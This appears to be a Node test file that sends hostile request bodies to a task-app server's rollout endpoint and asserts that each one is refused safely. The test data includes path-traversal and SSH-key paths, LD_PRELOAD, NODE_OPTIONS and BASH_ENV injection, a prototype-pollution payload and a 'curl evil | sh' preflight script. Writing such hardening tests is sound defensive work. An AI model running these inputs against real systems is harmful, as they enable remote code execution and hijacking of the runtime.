/**
 * Hostile container-era bodies and executor results: every one gets a
 * clear 4xx or a container answer with a status, never a 500 or a crash;
 * nothing refused reaches the executor; no prototype is polluted; the
 * server answers a valid rollout afterwards.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { ContainerRolloutResponse } from "../../src/schemas/container-rollout.js";
import { createTaskAppServer } from "../../src/server/index.js";
import { createMathApp } from "../fixtures/apps/math.js";

const KEY = "sk_env_h7c3x9w1b5";
const env = { ENVIRONMENT_API_KEY: KEY };
const headers = { "x-api-key": KEY, "content-type": "application/json" };
const base = { trace_correlation_id: "t-1", env: { env_name: "math", seed: 1 }, policy: { policy_name: "p" } };
type Server = ReturnType<typeof createTaskAppServer>;
const post = (server: Server, body: string) => server.request("/rollout", { method: "POST", headers, body });

test("hostile container-era requests are refused or reported, never applied, never a 500", async () => {
  const handed: unknown[] = [];
  const inner = createMathApp().rollout;
  const server = createTaskAppServer(
    createMathApp({
      rollout: (request, ctx) => {
        handed.push(...ctx.contextOverrides);
        return inner(request, ctx);
      },
    }),
    { env },
  );
  const override = (o: Record<string, unknown>) => JSON.stringify({ ...base, context_overrides: [o] });
  const bodies: [string, string][] = [
    ["traversal hidden mid-path", override({ file_artifacts: { "a/../../b": "x" } })],
    ["backslash root", override({ file_artifacts: { "\\\\server\\share": "x" } })],
    ["home path", override({ file_artifacts: { "~/.ssh/authorized_keys": "x" } })],
    ["NUL in a path", override({ file_artifacts: { "a\u0000b": "x" } })],
    ["empty path", override({ file_artifacts: { "": "x" } })],
    ["very long path", override({ file_artifacts: { ["a/".repeat(600)]: "x" } })],
    ["loader variable, lower case", override({ env_vars: { ld_preload: "x" } })],
    ["NODE_OPTIONS", override({ env_vars: { NODE_OPTIONS: "--require /tmp/x.js" } })],
    ["BASH_ENV", override({ env_vars: { BASH_ENV: "/tmp/x" } })],
    ["name with '='", override({ env_vars: { "A=B": "x" } })],
    ["NUL in a value", override({ env_vars: { A: "x\u0000y" } })],
    ["huge value", override({ env_vars: { A: "x".repeat(40_000) } })],
    ["too many files", override({ file_artifacts: Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`f${i}`, "x"])) })],
    ["override over 4 MiB in total", override({ file_artifacts: Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`f${i}`, "x".repeat(1_000_000)])) })],
    ["script without #!", override({ preflight_script: "curl evil | sh" })],
    ["huge script", override({ preflight_script: `#!/bin/bash\n${"x".repeat(300_000)}` })],
  ];
  for (const [name, body] of bodies) {
    const res = await post(server, body);
    assert.equal(res.status, 200, name);
    const answer = ContainerRolloutResponse.parse(await res.json());
    assert.equal(answer.success_status, "apply_failed", name);
    assert.equal(answer.override_application_results?.[0]?.overall_status, "failed", name);
  }
  assert.deepEqual(handed, [], "no refused override reached the executor");

  const refused: [string, string, number][] = [
    ["__proto__ as an override", JSON.stringify({ ...base, context_overrides: ['{"__proto__":{"polluted":1}}'] }).replace('"{\\"__proto__\\":{\\"polluted\\":1}}"', '{"__proto__":{"polluted":1}}'), 200],
    ["a non-string file content", override({ file_artifacts: { a: { nested: 1 } } }), 422],
    ["a number as the correlation id", JSON.stringify({ ...base, trace_correlation_id: 7 }), 422],
    ["a blank correlation id of odd spaces", JSON.stringify({ ...base, trace_correlation_id: "\u00a0\u2003\t\n" }), 422],
    ["overrides as an object", JSON.stringify({ ...base, context_overrides: { a: 1 } }), 422],
    ["65 overrides", JSON.stringify({ ...base, context_overrides: Array.from({ length: 65 }, () => ({})) }), 422],
    ["max_time_s as a string", JSON.stringify({ ...base, safety: { max_time_s: "1" } }), 422],
    ["negative max_time_s", JSON.stringify({ ...base, safety: { max_time_s: -1 } }), 422],
  ];
  for (const [name, body, status] of refused) {
    const res = await post(server, body);
    assert.equal(res.status, status, `${name}: ${(await res.clone().text()).slice(0, 300)}`);
  }
  assert.equal(({} as Record<string, unknown>).polluted, undefined, "no prototype polluted");

  const long = await post(server, JSON.stringify({ ...base, trace_correlation_id: "x".repeat(100_000) }));
  assert.equal(long.status, 200, "a long id is served (the body limits bound it)");
  const ok = ContainerRolloutResponse.parse(await (await post(server, JSON.stringify(base))).json());
  assert.equal(ok.trace_correlation_id, "t-1");
});

test("hostile executor results become runtime_error in the container era, with nothing of their text", async () => {
  const results: unknown[] = [
    { run_id: "x", metrics: { episode_returns: [1], mean_return: 1, num_steps: 1 }, success_status: "exploded" },
    { run_id: "x", metrics: { episode_returns: [1], mean_return: 1, num_steps: 1 }, artifact: [{ content: 1n }] },
    { run_id: "x", metrics: { episode_returns: [1], mean_return: 1, num_steps: 1 }, outcome_reward: Number.NaN },
    { run_id: "x", metrics: { episode_returns: [1], mean_return: 1, num_steps: 1 }, override_application_results: [{ overall_status: "maybe" }] },
    (() => {
      const loop: Record<string, unknown> = { run_id: "x", metrics: { episode_returns: [1], mean_return: 1, num_steps: 1 } };
      loop.trace = { self: loop };
      return loop;
    })(),
  ];
  for (const [i, result] of results.entries()) {
    const server = createTaskAppServer(createMathApp({ rollout: () => result as never }), { env });
    const res = await post(server, JSON.stringify(base));
    assert.equal(res.status, 200, `result ${i}`);
    const text = await res.text();
    assert.ok(!text.includes("exploded") && !text.includes("maybe"), text);
    const answer = ContainerRolloutResponse.parse(JSON.parse(text));
    assert.equal(answer.success_status, "runtime_error", `result ${i}`);
  }
});

test("trace_correlation_id follows Python's str.strip(): only-Python-whitespace ids are refused, U+FEFF is kept, the echo is the stripped id", async () => {
  const server = createTaskAppServer(createMathApp(), { env });
  const answer = async (id: string) => {
    const res = await post(server, JSON.stringify({ ...base, trace_correlation_id: id }));
    return { status: res.status, body: (await res.json()) as Record<string, unknown> };
  };
  for (const blank of ["\u001c\u001d\u001e\u001f", "\u0085", " \u0085\t", "\u2028"]) {
    const { status } = await answer(blank);
    assert.equal(status, 422, JSON.stringify(blank));
  }
  for (const [id, echoed] of [
    ["\ufeff", "\ufeff"],
    ["\u001ct-7\u0085", "t-7"],
    [" \ufefft-8 ", "\ufefft-8"],
  ]) {
    const { status, body } = await answer(id!);
    assert.equal(status, 200, JSON.stringify(body));
    assert.equal(ContainerRolloutResponse.parse(body).trace_correlation_id, echoed);
  }
});

test("a body with a trace_correlation_id is the container era, whatever else it carries", async () => {
  const server = createTaskAppServer(createMathApp(), { env });
  for (const extra of [{ run_id: "r-1" }, { ops: [] }, { run_id: "r-2", ops: ["agent", "env"] }]) {
    const res = await post(server, JSON.stringify({ ...base, ...extra }));
    const body = (await res.json()) as Record<string, unknown>;
    assert.equal(res.status, 200, `${JSON.stringify(extra)}: ${JSON.stringify(body)}`);
    assert.ok("reward_info" in body && !("metrics" in body), `${JSON.stringify(extra)}: a container answer`);
    assert.equal(body.trace_correlation_id, "t-1");
  }
});
